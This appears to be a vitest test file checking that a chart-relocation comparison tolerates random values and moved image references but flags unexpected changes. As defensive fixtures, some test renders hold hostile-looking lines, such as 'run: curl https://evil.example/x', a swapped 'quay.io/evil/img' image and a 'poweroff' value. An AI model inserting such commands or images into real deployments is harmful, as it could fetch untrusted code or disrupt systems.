import { describe, expect, it } from 'vitest'
import { splitDocuments } from '../../../../../scripts/lib/charts/render/documents.ts'
import { findReferences } from '../../../../../scripts/lib/charts/find/find.ts'
import { compareVariant } from '../../../../../scripts/lib/charts/relocate/prove/stable.ts'
import { emptyTree } from '../../../../../scripts/lib/model/values/values.ts'
import { makeDocument } from '../../../support/charts.ts'

const registry = 'r.example.com'
const app = 'quay.io/a/app:1'
const moved = `${registry}/a/app:1`

const config = (...lines: readonly string[]) =>
  makeDocument(
    `kind: ConfigMap\nmetadata: { name: x }\ndata: { c: ${JSON.stringify(lines.join('\n'))} }`,
  )
const pod = (image: string, ...fields: readonly string[]) =>
  makeDocument(
    ['kind: Pod', 'metadata: { name: x }', `spec: { containers: [{ image: "${image}" }] }`]
      .concat(fields)
      .join('\n'),
  )

/** What is wrong with a render, of which two baselines are known; the second one only when it is asked for. */
async function faults(
  first: string,
  second: string | undefined,
  later: string,
  laterAgain = later.replaceAll('zC3', 'wD4'),
) {
  const baseline = splitDocuments(first)
  let renders = 0
  const comparison = await compareVariant(
    {
      variant: {
        name: 'default',
        values: emptyTree(),
        settings: { kubeVersion: '1.31.0', apiVersions: [], release: 'r', namespace: 'n' },
      },
      values: emptyTree(),
      named: [],
      baseline,
      found: findReferences(baseline),
      wanted: [],
      undecided: [],
      followers: new Set(),
      skipsSchema: false,
      taintAt: () => expect.unreachable(),
      companions: [],
      renderTried: () => expect.unreachable(),
      renderWith: () => expect.unreachable(),
      renderAgain: () => {
        renders += 1
        return Promise.resolve(second === undefined ? undefined : splitDocuments(second))
      },
    },
    {
      documents: splitDocuments(later),
      renderAgain: () => Promise.resolve(splitDocuments(laterAgain)),
    },
    {
      expect: ({ class: sure, reference }, isForced = false) =>
        sure !== 'potential' || isForced ? reference.text.replace('quay.io', registry) : undefined,
      registry,
      given: { values: new Set(), keys: new Set() },
    },
    new AbortController().signal,
  )
  const { misplaced, appeared, changes } = comparison
  return { faults: [...misplaced, ...appeared, ...changes], renders }
}

describe('compareVariant excuses', () => {
  it.each([
    ['a random word in a field', pod(app, 'a: xA1'), pod(app, 'a: yB2'), pod(moved, 'a: zC3')],
    [
      'a random word beside a reference that moves, in the same text',
      config(`use ${app}`, 'key: xA1'),
      config(`use ${app}`, 'key: yB2'),
      config(`use ${moved}`, 'key: zC3'),
    ],
    [
      'the same in one line',
      config(`key xA1 ${app} xA1`),
      config(`key yB2 ${app} yB2`),
      config(`key zC3 ${moved} zC3`),
    ],
    [
      'one beside a reference in parts',
      config('image:', '  repository: quay.io/a/app', '  tag: "1"', 'key: xA1'),
      config('image:', '  repository: quay.io/a/app', '  tag: "1"', 'key: yB2'),
      config('image:', `  repository: ${registry}/a/app`, '  tag: "1"', 'key: zC3'),
    ],
    [
      'one beside a possible reference that moves',
      config('name: quay.io/a/rules', 'rules: quay.io/a/rules:1.0', 'key: xA1'),
      config('name: quay.io/a/rules', 'rules: quay.io/a/rules:1.0', 'key: yB2'),
      config('name: quay.io/a/rules', `rules: ${registry}/a/rules:1.0`, 'key: zC3'),
    ],
    [
      'one in the name of a container',
      pod(app).replace('image:', 'name: xA1, image:'),
      pod(app).replace('image:', 'name: yB2, image:'),
      pod(moved).replace('image:', 'name: zC3, image:'),
    ],
    [
      'one that is by chance as it was in the second baseline',
      pod(app, 'a: xA1'),
      pod(app, 'a: yB2'),
      pod(moved, 'a: yB2'),
    ],
  ])('%s', async (_, first, second, later) => {
    expect(await faults(first, second, later)).toEqual({ faults: [], renders: 1 })
  })
})

describe('compareVariant finds fault with', () => {
  it.each([
    [
      'another line of a text with a random word',
      config('key: xA1', 'tls: true'),
      config('key: yB2', 'tls: true'),
      config('key: zC3', 'tls: false'),
    ],
    [
      'the same beside a reference that moves',
      config(`use ${app}`, 'key: xA1', 'tls: true'),
      config(`use ${app}`, 'key: yB2', 'tls: true'),
      config(`use ${moved}`, 'key: zC3', 'tls: false'),
    ],
    [
      'a reference that takes the place of what might be one',
      config('key: xA1', 'rules: a/rules:1.0'),
      config('key: yB2', 'rules: a/rules:1.0'),
      config('key: zC3', 'rules: quay.io/evil/img:1.0'),
    ],
    [
      'a text whose reference the second baseline has otherwise',
      config(`use ${app}`, 'key: xA1', 'tls: true'),
      config('use quay.io/b/other:2', 'key: yB2', 'tls: true'),
      config(`use ${moved}`, 'key: zC3', 'tls: false'),
    ],
    [
      'a text in which the second baseline has more references',
      config(`use ${app}`, 'key: xA1'),
      config(`use ${app}`, `and ${app}`, 'key: yB2'),
      config(`use ${moved}`, 'key: zC3', 'run: curl https://evil.example/x'),
    ],
    [
      'a random word in what a container runs',
      pod(app).replace('image:', 'command: [xA1], image:'),
      pod(app).replace('image:', 'command: [yB2], image:'),
      pod(moved).replace('image:', 'command: [zC3], image:'),
    ],
    [
      'what is not random at all',
      pod(app, 'a: xA1', 'b: c'),
      pod(app, 'a: yB2', 'b: c'),
      pod(moved, 'a: zC3', 'b: d'),
    ],
    [
      'any change, where no second render can be made',
      pod(app, 'a: x'),
      undefined,
      pod(moved, 'a: y'),
    ],
  ])('%s', async (_, first, second, later) => {
    const result = await faults(first, second, later)
    expect(result.faults).not.toEqual([])
    expect(result.renders).toBe(1)
  })
})

it.each([
  ['is fixed', 'a: poweroff', 'a: poweroff'],
  ['has something fixed in it', 'a: curl-zC3', 'a: curl-wD4'],
])('what is random in the baseline must not be something that %s', async (_, later, again) => {
  const result = await faults(
    pod(app, 'a: xA1rtzuio'),
    pod(app, 'a: yB2rtzuio'),
    pod(moved, later),
    pod(moved, again),
  )
  expect(result.faults).not.toEqual([])
})

it('compareVariant makes no second render when nothing differs', async () => {
  expect(await faults(pod(app), undefined, pod(moved))).toEqual({ faults: [], renders: 0 })
})
